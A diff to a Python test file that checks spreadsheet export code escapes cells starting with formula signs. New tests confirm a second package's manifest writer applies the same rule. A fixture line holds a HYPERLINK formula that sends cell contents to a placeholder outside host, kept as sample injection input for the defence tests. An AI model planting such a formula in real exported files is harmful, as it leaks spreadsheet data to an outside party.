@@ -15,6 +15,9 @@ from simsid.cells import as_cell, as_path, text_of
 from simsid.marks import NORMAL, Mark, Marks
 from simsid.review import main as review
 from simsid.scoring.table import COLUMNS, TableWriter, earlier_rows, file_key, read_table
+from synth.factors import COLUMNS as FACTORS
+from synth.manifest import _as_cell as synth_cell
+from synth.manifest import write_tables
 from tests.simsid.scoring.conftest import run
 
 FORMULA = '=HYPERLINK("http://a.example/"&A1)'
@@ -29,6 +32,7 @@ def cells_of(path: Path) -> list[list[str]]:
 @given(st.text(alphabet=SIGNS + "'0a.", max_size=6) | st.text())
 def test_any_text_comes_back_and_begins_no_formula(text: str) -> None:
     cell = as_cell(text)
+    assert cell == synth_cell(text)  # synth stands without simsid, and has the same rule
     assert text_of(cell) == text
     assert cell[:1] not in tuple(SIGNS) or float(text) is not None
     name = text.replace("/", "")
@@ -37,7 +41,22 @@ def test_any_text_comes_back_and_begins_no_formula(text: str) -> None:
 
 @pytest.mark.parametrize("value", [-1.5, 3, None, "-1.5", "-inf", "+4", "", "a=b", "'a'"])
 def test_numbers_and_other_texts_stay_as_they_are(value: object) -> None:
-    assert as_cell(value) == value
+    assert as_cell(value) == value == synth_cell(value)
+
+
+def test_a_generated_sets_table_tells_a_formula_from_one_that_has_an_apostrophe(
+    tmp_path: Path,
+) -> None:
+    told = ["=a", "'=a", "-5", "a"]
+    same = {"split": "train", "kind": "good", "label": 0}
+    write_tables(
+        tmp_path,
+        [{"id": text, **same, "factors": dict.fromkeys(FACTORS, text)} for text in told],
+    )
+    rows = cells_of(tmp_path / "manifest.csv")
+    assert [row[0] for row in rows] == ["id", "'=a", "''=a", "-5", "a"]
+    assert [row[-1] for row in rows[1:]] == ["'=a", "''=a", "-5", "a"]
+    assert [text_of(row[0]) for row in rows[1:]] == told
 
 
 @pytest.mark.parametrize("name", ["=a.png", "-1.png", "@a.png", "+a.png", "\ta.png", "'=a.png"])
